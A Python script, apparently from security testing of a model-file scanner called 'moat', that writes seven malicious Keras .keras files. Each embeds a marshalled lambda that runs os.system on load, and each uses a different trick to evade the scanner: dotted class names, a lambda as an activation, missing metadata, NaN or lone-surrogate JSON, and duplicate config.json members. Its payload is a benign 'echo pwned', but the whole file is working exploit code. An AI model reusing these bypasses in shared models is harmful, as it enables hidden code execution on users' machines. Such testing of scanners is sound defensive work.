"""Keras v3 .keras bypasses of moat's Lambda / module checks. Written only, never loaded."""
import os
import base64, codecs, json, marshal, zipfile
O = os.path.dirname(os.path.abspath(__file__)) + "/"
fn = lambda x: (__import__("os").system("echo pwned"), x)[1]
code = codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")
lam_fn = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}

def inp():
    return {"module": "keras.layers", "class_name": "InputLayer",
            "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}, "registered_name": None}
def seq(layers):
    return {"module": "keras", "class_name": "Sequential",
            "config": {"name": "seq", "trainable": True, "dtype": "float32", "layers": [inp()] + layers},
            "registered_name": None, "build_config": {"input_shape": [None, 4]}}
def lam(module="keras.layers", cls="Lambda"):
    return {"module": module, "class_name": cls,
            "config": {"name": "l", "trainable": True, "dtype": "float32", "function": lam_fn,
                       "output_shape": None, "arguments": {}}, "registered_name": None}
def dense(activation):
    return {"module": "keras.layers", "class_name": "Dense",
            "config": {"name": "d", "trainable": True, "dtype": "float32", "units": 2,
                       "activation": activation, "use_bias": True}, "registered_name": None}
META = json.dumps({"keras_version": "3.10.0", "date_saved": "2025-01-01@00:00:00"})

def keras_zip(name, config_bytes, meta=True, extra=()):
    with zipfile.ZipFile(O + name, "w") as z:
        if meta: z.writestr("metadata.json", META)
        for n, d in extra: z.writestr(n, d)
        z.writestr("config.json", config_bytes)
        z.writestr("model.weights.h5", b"")

keras_zip("k0_baseline.keras", json.dumps(seq([lam()])))
# K1: same Lambda named through the public API path: module "keras" + class "layers.Lambda"
keras_zip("k1_dotted_class_name.keras", json.dumps(seq([lam("keras", "layers.Lambda")])))
# K2: a bare `__lambda__` object as a Dense activation (serialization_lib.deserialize_keras_object -> func_load)
keras_zip("k2_lambda_activation.keras",
          json.dumps(seq([dense({"class_name": "__lambda__", "config": {"value": code}})])))
# K3: no metadata.json and no model.weights.* : moat calls it a plain zip and skips config.json;
# Keras builds the model from config.json before it looks for weights
with zipfile.ZipFile(O + "k3_no_metadata.keras", "w") as z:
    z.writestr("config.json", json.dumps(seq([lam()])))
# K4: a NaN in the config: Python's json.loads accepts it, serde_json does not
cfg = seq([lam()]); cfg["config"]["layers"][0]["config"]["x"] = float("nan")
keras_zip("k4_nan_json.keras", json.dumps(cfg))  # json.dumps writes NaN
# K5: two config.json members: zipfile (Keras) reads the last, moat the first
with zipfile.ZipFile(O + "k5_duplicate_config.keras", "w") as z:
    z.writestr("metadata.json", META)
    z.writestr("config.json", json.dumps(seq([dense("relu")])))
    import warnings; warnings.simplefilter("ignore")
    z.writestr("config.json", json.dumps(seq([lam()])))
    z.writestr("model.weights.h5", b"")
# K6: lone surrogate escape (valid for Python json, rejected by serde_json)
cfg = seq([lam()]); s = json.dumps(cfg).replace('"name": "seq"', '"name": "seq\\ud800"')
keras_zip("k6_lone_surrogate.keras", s)
print("ok")
